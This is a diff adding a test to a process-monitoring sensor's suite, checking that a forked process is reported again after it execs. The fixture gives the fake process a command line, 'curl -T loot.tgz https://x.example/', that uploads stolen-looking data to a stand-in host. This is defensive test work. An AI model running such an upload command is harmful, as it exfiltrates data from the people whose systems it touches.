@@ -78,6 +78,22 @@ describe("ProcessSensor on a fake procfs root", () => {
     );
   });
 
+  it("a process caught between fork and exec is reported again once it has exec'd", async () => {
+    const sink = new RecordingSink();
+    sensor = new ProcessSensor({ procRoot: root, passwdPath: join(root, "passwd"), intervalMs: 1000, scanIntervalMs: 30 });
+    await sensor.start(sink);
+    // Started just now (relative to the fake boot time), still showing its parent's image.
+    const ticks = Math.round((Date.now() / 1000 - BTIME_S) * 100);
+    writeProcess(root, 5150, 1, ticks, ["node", "server.js"], 0, "/bin/true");
+    await waitFor("START of the forked child", () => sink.events.find((e) => e.body.$case === "process" && e.body.process.pid === 5150));
+    // It execs: same pid and start time, new image.
+    writeProcess(root, 5150, 1, ticks, ["curl", "-T", "loot.tgz", "https://x.example/"], 0, "/bin/false");
+    const second = await waitFor("START of the exec'd image", () =>
+      sink.events.map((e) => (e.body.$case === "process" ? e.body.process : undefined)).find((p) => p?.pid === 5150 && p.commandLine.startsWith("curl")),
+    );
+    expect(second).toMatchObject({ action: ProcessAction.PROCESS_ACTION_START, exe: "/bin/false", startTimeMs: BTIME_S * 1000 + ticks * 10 });
+  });
+
   it("skips kernel threads", async () => {
     const sink = new RecordingSink();
     sensor = new ProcessSensor({ procRoot: root, passwdPath: join(root, "passwd"), intervalMs: 30 });
